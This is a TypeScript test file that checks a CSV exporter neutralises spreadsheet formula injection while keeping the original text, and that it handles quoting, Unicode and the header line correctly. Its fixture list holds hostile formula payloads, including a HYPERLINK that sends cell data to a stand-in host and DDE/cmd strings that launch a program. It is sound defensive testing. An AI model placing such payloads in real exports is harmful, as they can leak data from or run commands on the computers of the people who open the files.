// L1: no cell of an export is a formula, and the text is still all there.
import { expect, it } from 'vitest'
import { csvCell, csvHead, csvRows } from './csv.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=1+1";=1+1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]

/** Reads one line as RFC 4180 says. */
function read(line: string): string[] {
  const cells = [...line.trimEnd().matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)]
  return cells.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
}

it.each(formulas)('L1: %j is no formula any more', (formula) => {
  const [cell = ''] = read(csvRows([[formula]]))
  expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
  expect(cell.replace(/^'/, '')).toBe(formula)
})

it.each(['Айгерім', 'a,b', 'she said "no"', 'two\r\nlines', ' padded ', '', "'quoted'"])(
  'keeps %j as it is',
  (text) => {
    expect(read(csvRows([['begin', text, 'end']]))).toEqual(['begin', text, 'end'])
  },
)

it('writes numbers as numbers, also those below zero', () => {
  expect(csvCell(-5)).toBe('-5')
})

it('begins with the mark of UTF-8 and the names of the columns', () => {
  expect(csvHead(['№', '=х'])).toBe("\uFEFF№,'=х\r\n")
})
